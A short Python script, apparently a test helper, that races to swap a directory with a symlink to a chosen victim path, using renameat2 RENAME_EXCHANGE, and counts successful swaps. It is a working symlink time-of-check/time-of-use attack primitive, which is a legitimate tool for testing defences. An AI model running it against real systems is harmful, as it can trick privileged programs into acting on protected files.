# SPDX-License-Identifier: Apache-2.0
"""Run as a process: swaps a directory and a symbolic link, as fast as it can.

attacker.py DIRECTORY LINK VICTIM SWAPS   prints how many swaps succeeded
"""

import ctypes
import os
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2  # linux/fs.h

libc = ctypes.CDLL(None, use_errno=True)


def exchange(one, other):
    """Swap two names in one step; tell whether both were there."""
    return libc.renameat2(AT_FDCWD, one.encode(), AT_FDCWD, other.encode(), RENAME_EXCHANGE) == 0


def main():
    directory, link, victim, wanted = sys.argv[1:]
    swaps, ends_at = 0, time.monotonic() + 100
    while swaps < int(wanted) and time.monotonic() < ends_at:
        if os.path.isdir(link) and not os.path.islink(link):
            os.rename(link, f"{link}-{swaps}-{time.monotonic_ns()}")
        if not os.path.lexists(link):
            os.symlink(victim, link)
        if exchange(directory, link):
            swaps += 1
    print(swaps)


if __name__ == "__main__":
    main()
